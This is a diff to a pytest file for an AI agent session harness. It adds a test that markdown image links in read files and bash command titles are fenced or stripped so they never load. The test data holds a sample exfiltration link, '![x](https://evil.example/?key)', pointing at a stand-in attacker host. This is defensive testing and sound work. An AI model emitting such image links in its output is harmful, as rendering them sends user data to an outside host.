@@ -55,7 +55,9 @@ SESSIONS: dict[str, tuple[Prompt, ...]] = {
                text="First. \n\nThen. \n\nDone.", calls=("fs_read: a.txt: completed", "fs_read: src/b.py: completed")),
     ),
     "a buffer that is not saved": (Prompt([reads("a.txt"), DONE], results=("unsaved",), user="buffer a.txt"),),
-    "a file that was never saved": (Prompt([reads("never.txt"), DONE], results=("unsaved",), user="buffer never.txt"),),
+    "a file that was never saved": (
+        Prompt([reads("never.txt"), DONE], calls=("fs_read: never.txt: failed",), user="buffer never.txt"),
+    ),
     "a file that is not text": (Prompt([reads("data.bin"), DONE], results=("(not text)",)),),
     "a file that is not there": (Prompt([reads("no.txt"), DONE], calls=("fs_read: no.txt: failed",)),),
     "a new file, allowed": (
@@ -397,6 +399,19 @@ async def test_a_command_cannot_act_as_a_part_of_its_question(desk: Desk, tmp_pa
     assert shown == "text\n" + command.replace("```", "    ```") + "\n"
     assert "\\<\\!--" in before
     assert "Risk: low" not in after
+
+
+@pytest.mark.fault("ACP: a result or a command with a picture that would be loaded")
+@pytest.mark.asyncio(loop_scope="module")
+async def test_no_picture_of_a_call_is_loaded(desk: Desk, tmp_path: Path) -> None:
+    folder = project(tmp_path)
+    (folder / "p.md").write_text(picture := "![x](https://evil.example/?key)\n```\n![y](https://evil.example)\n")
+    session = await desk.at.open(folder)
+    desk.script[:] = [reads("p.md"), wants("bash", command="echo '![x](https://evil.example/?key)'"), DONE]
+    answer = await session.say("Go.", "reject_once")
+    read, ran = answer.calls.values()
+    assert [item.content.text for item in texts(read)] == [f"````\n{picture}````"]
+    assert "](" not in ran["title"]
 
 
 @pytest.mark.fault("ACP: the code of a question of another folder")
